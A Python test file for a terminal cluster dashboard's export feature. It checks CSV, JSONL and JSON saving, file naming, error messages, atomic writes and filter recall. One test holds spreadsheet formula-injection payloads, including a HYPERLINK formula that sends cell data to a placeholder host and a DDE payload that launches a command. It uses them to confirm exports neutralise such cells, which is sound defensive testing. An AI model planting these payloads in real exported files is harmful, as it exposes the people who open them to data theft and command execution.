"""Rows saved as a file: what is shown, all of it, and never over something; filters called back."""

import csv
import json
from pathlib import Path
from typing import Any, Self

import pytest

from clusters.watch.slices import at_once
from tests.tui.piloting import until
from tui.saving import SavingProblem, file_kind, keep, writing
from tui.table import Column

SIZE = (120, 36)


def told(app: Any) -> str:
    return [*app._notifications][-1].message if app._notifications else ""


@pytest.fixture
async def opened(cluster: Any, open_dashboard: Any, monkeypatch: Any, tmp_path: Path):
    monkeypatch.chdir(tmp_path)
    app = open_dashboard(cluster)
    async with app.run_test(size=SIZE) as pilot:
        await cluster.tell(replaying=True)
        await until(pilot, lambda: app.store.view.partitions, "the cluster")
        yield app, pilot


async def test_each_kind_holds_the_rows_that_are_shown(opened: Any) -> None:
    app, pilot = opened
    app.run_command("partitions orders")
    await until(pilot, lambda: len(app.table("partitions").shown) == 6, "six of nine")
    for name in ("p.csv", "p.jsonl", "p.json"):
        app.run_command(f"save {name}")
        await until(
            pilot, lambda name=name: told(app) == f"saved 6 rows as {Path.cwd() / name}", name
        )
    rows = list(csv.DictReader(Path("p.csv").read_text().splitlines()))
    assert [row["partition"] for row in rows] == [f"orders-{n}" for n in range(6)]
    assert rows[0]["replicas"] == "<1> 2  3"
    assert rows[0]["isr"] == "1 2 3"
    assert {"min", "state"} < set(rows[0]), "columns that the screen has no room for, too"
    lines = [json.loads(line) for line in Path("p.jsonl").read_text().splitlines()]
    assert [(each["topic"], each["partition"]) for each in lines] == [
        ("orders", n) for n in range(6)
    ]
    assert lines == json.loads(Path("p.json").read_text())


async def test_events_are_saved_as_watch_writes_them(opened: Any) -> None:
    app, pilot = opened
    app.run_command("events BrokerJoined")
    await until(pilot, lambda: len(app.table("events").shown) == 3, "three of all")
    app.run_command("save events.jsonl")
    await until(pilot, lambda: "saved 3 rows" in told(app), "the file")
    lines = [json.loads(line) for line in Path("events.jsonl").read_text().splitlines()]
    assert lines == [event.to_json() for event in app.table("events").shown]


async def test_a_second_file_is_offered_another_name(opened: Any) -> None:
    app, pilot = opened
    app.run_command("topics")
    for name in ("topics.csv", "topics-2.csv", "topics-3.csv"):
        await pilot.press("w")
        assert app._bar.value == f"save {name}"
        await pilot.press("enter")
        await until(pilot, lambda name=name: told(app).endswith(f"/{name}"), name)
    assert len(list(Path().iterdir())) == 3


async def test_what_cannot_be_saved_is_told_and_nothing_written(opened: Any) -> None:
    app, pilot = opened
    app.run_command("topics")
    Path("there.csv").write_text("mine")
    for words, said in {
        "save": "Save as what? Type :save FILE.csv, .jsonl or .json.",
        "save x.xls": "Which kind of file is x.xls? It may end in .csv, .jsonl, .json.",
        "save there.csv": "There is a file there.csv already; choose another name.",
        "save no/such/x.csv": "no/such/x.csv could not be written: No such file or directory.",
    }.items():
        app.run_command(words)
        await until(pilot, lambda said=said: told(app) == said, said)
    assert [path.name for path in Path().iterdir()] == ["there.csv"]
    assert Path("there.csv").read_text() == "mine"


def test_odd_cells_come_back_as_they_were() -> None:
    column: Column[Any] = Column("a,b", 5, lambda row: row, lambda row: row)
    rows = ['say "hi"', "two\nlines", "◆ ● ●", "✖ offline", "-", "- 1"]
    text = at_once(writing(rows, [column], ".csv"))
    assert [row[0] for row in csv.reader(text.splitlines(keepends=True))] == [
        "a,b", 'say "hi"', "two\nlines", "◆ ● ●", "offline", "-", "- 1",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\uff1d1+1",
        "-x",
    ],
)
def test_no_cell_is_a_formula_to_a_spreadsheet_and_json_stays_exact(cell: str) -> None:
    column: Column[Any] = Column("value", 5, lambda row: row["value"], lambda row: row["value"])
    text = at_once(writing([{"value": cell}], [column], ".csv"))
    assert [row[0] for row in csv.reader(text.splitlines())] == ["value", f"'{cell}"]
    assert text.splitlines()[1].startswith("\"'"), "quoted as a whole"
    lines = at_once(writing([{"value": cell}], [column], ".jsonl"))
    assert json.loads(lines) == {"value": cell}


def test_data_keep_what_looks_like_a_sign_of_ours() -> None:
    def column(title: str, *, exact: bool) -> Column[Any]:
        return Column(title, 5, lambda row: row, lambda row: row, exact=exact)

    columns = [column("sign", exact=False), column("value", exact=True)]
    rows = ["# heading", " two spaces ", " =1+1", "✖ offline"]
    text = at_once(writing(rows, columns, ".csv"))
    assert [tuple(row) for row in csv.reader(text.splitlines())][1:] == [
        ("heading", "# heading"),
        ("two spaces", " two spaces "),
        ("'=1+1", "' =1+1"),
        ("offline", "✖ offline"),
    ]


@pytest.mark.parametrize("cell", ["-5", "+12", "-1,234.5", "-0.5 %", "1e-9", "-3e+7", "-", "100"])
def test_numbers_stay_numbers(cell: str) -> None:
    column: Column[Any] = Column("value", 5, lambda row: row, lambda row: row)
    text = at_once(writing([cell], [column], ".csv"))
    assert [row[0] for row in csv.reader(text.splitlines())] == ["value", cell]


def test_a_disk_that_fills_up_leaves_no_half_of_a_file(tmp_path: Path, monkeypatch: Any) -> None:
    path = tmp_path / "x.csv"

    class Full:
        def __enter__(self) -> Self:
            path.touch()
            return self

        def __exit__(self, *_: object) -> None:
            return None

        def write(self, _: str) -> None:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "open", lambda *_, **__: Full())
    with pytest.raises(SavingProblem, match="No space left on device"):
        keep("text", str(path))
    assert not path.exists()


def test_kinds_by_name() -> None:
    assert [file_kind(name) for name in ("a.CSV", "b.x.jsonl")] == [".csv", ".jsonl"]


async def test_a_filter_is_called_back_on_another_page(opened: Any) -> None:
    app, pilot = opened
    app.run_command("topics")
    for text in ("sign", "orders"):
        await pilot.press("slash", *text, "enter", "escape")
    await pilot.press("4", "slash", "up")
    assert app._bar.value == "orders"
    await until(pilot, lambda: len(app.table("partitions").shown) == 6, "filtered at once")
    await pilot.press("up")
    assert app._bar.value == "sign"
    await pilot.press("down", "down")
    assert app._bar.value == ""
    await pilot.press("up", "up", "enter")
    assert app.table("partitions").filter_text == "sign"
    await pilot.press("escape", "colon", "up")
    assert app._bar.value == "", "filters are no commands"
